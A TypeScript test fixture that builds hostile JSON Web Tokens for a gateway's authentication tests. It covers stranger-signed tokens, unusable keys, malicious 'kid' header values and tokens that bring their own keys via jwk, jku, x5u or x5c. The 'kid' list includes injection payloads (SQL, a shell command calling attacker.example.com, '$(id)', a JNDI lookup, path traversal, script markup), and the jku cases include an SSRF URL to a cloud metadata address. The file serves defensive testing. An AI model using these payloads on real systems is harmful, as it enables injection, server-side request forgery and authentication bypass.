// Hostile tokens: keys of somebody else, keys that are not for this, tricks with `kid`, and keys that a token brings along.
import { createHash, type KeyObject } from 'node:crypto';
import type { Algorithm } from '../../src/gateway/authentication/token/algorithms.ts';
import { type Signer, signAs, signWithBytes, signWithSecret } from '../kit/forge-token.ts';
import type { HostileToken } from './token-corpus-entry.ts';
import { forgeLike, keys, strangers, unusableKeys } from './token-corpus-issuer.ts';
import { formatPkcs1Block } from './token-corpus-pkcs1.ts';

export function createKeyTokens(nowSeconds: number): HostileToken[] {
  return [
    ...createStrangerTokens(nowSeconds),
    ...createUnusableKeyTokens(nowSeconds),
    ...createKeyIdTokens(nowSeconds),
    ...createBroughtKeyTokens(nowSeconds),
  ];
}

/** Signed by the book, but by nobody that the issuer knows. */
function createStrangerTokens(nowSeconds: number): HostileToken[] {
  const cases: [Algorithm, keyof typeof strangers][] = [
    ['RS256', 'rsa'],
    ['RS384', 'rsa'],
    ['RS512', 'rsa'],
    ['PS256', 'rsa'],
    ['PS384', 'rsa'],
    ['PS512', 'rsa'],
    ['ES256', 'ec'],
    ['ES384', 'ec384'],
    ['ES512', 'ec521'],
    ['EdDSA', 'ed'],
    ['Ed25519', 'ed'],
    ['EdDSA', 'ed448'],
    ['Ed448', 'ed448'],
  ];
  return cases.flatMap(([alg, kid]): HostileToken[] => {
    const signer = signAs(alg, strangers[kid].privateKey);
    return [
      {
        name: `${alg} by a stranger who names our ${kid}`,
        token: forgeLike(nowSeconds, { header: { alg, kid }, signer }),
        reason: 'token_bad_signature',
      },
      {
        name: `${alg} by a stranger (${kid}) under a name of his own`,
        token: forgeLike(nowSeconds, { header: { alg, kid: 'stranger' }, signer }),
        reason: 'token_unknown_key',
      },
    ];
  });
}

function createUnusableKeyTokens(nowSeconds: number): HostileToken[] {
  const signers: Record<string, Signer> = {
    'exponent-one': (input) => formatPkcs1Block(createHash('sha256').update(input).digest()),
    'ed-identity': signWithBytes(Buffer.from(`01${'00'.repeat(63)}`, 'hex')),
    'ed448-identity': signWithBytes(Buffer.from(`01${'00'.repeat(113)}`, 'hex')),
  };
  return Object.entries(unusableKeys).map(([kid, { why, privateKey, algorithm: alg }]) => ({
    name: `signed with a key that ${why}`,
    token: forgeLike(nowSeconds, { header: { alg, kid }, signer: signers[kid] ?? signAs(alg, privateKey!) }),
    reason: 'token_unknown_key',
  }));
}

function createKeyIdTokens(nowSeconds: number): HostileToken[] {
  const texts: [string, string][] = [
    ['empty', ''],
    ['a space', ' '],
    ['in upper case', 'EC'],
    ['with a space behind', 'ec '],
    ['with a space in front', ' ec'],
    ['with NUL behind', 'ec\u0000'],
    ['with a line end', 'ec\n'],
    ['a path', '../../../../../../dev/null'],
    ['a path with our kid', './ec'],
    ['a path encoded', '..%2f..%2fdev%2fnull'],
    ['a Windows path', '..\\..\\nul'],
    ['a file URL', 'file:///dev/null'],
    ['a URL', 'https://attacker.example.com/key.pem'],
    ['SQL', "ec' OR '1'='1"],
    ['SQL with UNION', "x' UNION SELECT 'AAAA"],
    ['a shell command', 'ec; curl attacker.example.com'],
    ['a shell substitution', '$(id)'],
    ['LDAP', '*)(kid=*'],
    ['a template', '{{7*7}}'],
    ['a lookup', '${jndi:ldap://attacker.example.com/a}'],
    ['a format', '%s%s%n'],
    ['a glob', '*'],
    ['a regular expression', '.*'],
    ['a slow regular expression', '(e+)+c$'],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['0', '0'],
    ['undefined', 'undefined'],
    ['null', 'null'],
    ['a look-alike letter', 'e\u0441'],
    ['in another normal form', 'e\u0301c'],
    ['with a zero width space', 'e\u200bc'],
    ['two kids', 'ec,rsa'],
    ['very long', 'k'.repeat(8_000)],
    ['a header line', 'ec\r\nX-Injected: 1'],
    ['markup', '<script>alert(1)</script>'],
    ['the thumbprint of the key', createHash('sha256').update(JSON.stringify(keys.ec.publicJwk)).digest('base64url')],
  ];
  const odd: [string, unknown][] = [
    ['a number', 1],
    ['zero', 0],
    ['null', null],
    ['true', true],
    ['a list', ['ec']],
    ['a list of two', ['nope', 'ec']],
    ['an empty list', []],
    ['an object', { kid: 'ec' }],
    ['an object that says it is a string', { toString: 'ec', length: 2 }],
  ];
  return [
    ...texts.map(([name, kid]): HostileToken => ({
      name: `kid is ${name}`,
      token: forgeLike(nowSeconds, { header: { alg: 'ES256', kid } }),
      reason: 'token_unknown_key',
    })),
    ...odd.map(([name, kid]): HostileToken => ({
      name: `kid is ${name} in JSON`,
      token: forgeLike(nowSeconds, { header: { alg: 'ES256', kid } }),
      reason: 'token_malformed',
    })),
    {
      name: 'kid is a path to an empty file, HS256 with an empty secret',
      token: forgeLike(nowSeconds, {
        header: { alg: 'HS256', kid: '../../dev/null' },
        signer: signWithSecret('sha256', ''),
      }),
      reason: 'token_unsupported_algorithm',
    },
    {
      name: 'no kid where two keys could be meant',
      token: forgeLike(nowSeconds, {
        header: { alg: 'RS256' },
        signer: signAs('RS256', keys.rsa.privateKey),
      }),
      reason: 'token_unknown_key',
    },
    {
      name: 'no kid, and a stranger signed for the only key of the algorithm',
      token: forgeLike(nowSeconds, { header: { alg: 'ES256' }, signer: signAs('ES256', strangers.ec.privateKey) }),
      reason: 'token_bad_signature',
    },
    {
      name: 'the kid of another key of the same issuer',
      token: forgeLike(nowSeconds, {
        header: { alg: 'RS256', kid: 'rs256' },
        signer: signAs('RS256', keys.rsa.privateKey),
      }),
      reason: 'token_bad_signature',
    },
    {
      name: 'an unknown kid where the only key has no name, by a stranger',
      token: forgeLike(nowSeconds, {
        header: { alg: 'RS256', kid: 'any' },
        signer: signAs('RS256', strangers.rsa.privateKey),
      }),
      reason: 'token_bad_signature',
      policy: 'lone-key',
    },
    {
      name: 'an algorithm that the only key cannot serve',
      token: forgeLike(nowSeconds, { header: { alg: 'ES256', kid: 'any' } }),
      reason: 'token_unknown_key',
      policy: 'lone-key',
    },
    {
      name: 'the header parameter KID in place of kid, by a stranger',
      token: forgeLike(nowSeconds, {
        header: { alg: 'ES256', KID: 'ec' },
        signer: signAs('ES256', strangers.ec.privateKey),
      }),
      reason: 'token_bad_signature',
    },
  ];
}

/** CVE-2018-0114 and the like: the token says where to look for the key that it was signed with. */
function createBroughtKeyTokens(nowSeconds: number): HostileToken[] {
  const own = strangers.ec;
  const signer = signAs('ES256', own.privateKey);
  const certificate = formatCertificateLike(own.privateKey);
  const brought: [string, object][] = [
    ['jwk', { jwk: own.publicJwk }],
    ['jwk with our kid in it', { jwk: { ...own.publicJwk, kid: 'ec' } }],
    ['jwk that is a list', { jwk: [own.publicJwk] }],
    ['jwk that is a key set', { jwk: { keys: [own.publicJwk] } }],
    ['jwk with a private key', { jwk: own.privateKey.export({ format: 'jwk' }) }],
    ['jwks', { jwks: { keys: [own.publicJwk] } }],
    ['jku', { jku: 'https://attacker.example.com/jwks.json' }],
    ['jku that begins like the issuer', { jku: 'https://idp.example.com@attacker.example.com/jwks.json' }],
    ['jku as data', { jku: `data:application/json,${JSON.stringify({ keys: [own.publicJwk] })}` }],
    ['jku to the metadata service', { jku: 'http://169.254.169.254/latest/meta-data/' }],
    ['x5u', { x5u: 'https://attacker.example.com/cert.pem' }],
    ['x5c', { x5c: [certificate] }],
    ['x5c that is no certificate', { x5c: ['AAAA'] }],
    ['x5t', { x5t: createHash('sha1').update(certificate).digest('base64url') }],
    ['x5t#S256', { 'x5t#S256': createHash('sha256').update(certificate).digest('base64url') }],
    [
      'everything at once',
      {
        jwk: own.publicJwk,
        jku: 'https://attacker.example.com/',
        x5c: [certificate],
        iss: 'https://attacker.example.com',
      },
    ],
  ];
  return brought.flatMap(([name, extra]): HostileToken[] => [
    {
      name: `brings its key along: ${name}, our kid`,
      token: forgeLike(nowSeconds, { header: { alg: 'ES256', kid: 'ec', ...extra }, signer }),
      reason: 'token_bad_signature',
    },
    {
      name: `brings its key along: ${name}, its own kid`,
      token: forgeLike(nowSeconds, { header: { alg: 'ES256', kid: 'mine', ...extra }, signer }),
      reason: 'token_unknown_key',
    },
  ]);
}

/** Bytes that a careless reader takes for a certificate: it would look for the key in them. */
function formatCertificateLike(key: KeyObject): string {
  return key.export({ type: 'pkcs8', format: 'der' }).toString('base64');
}
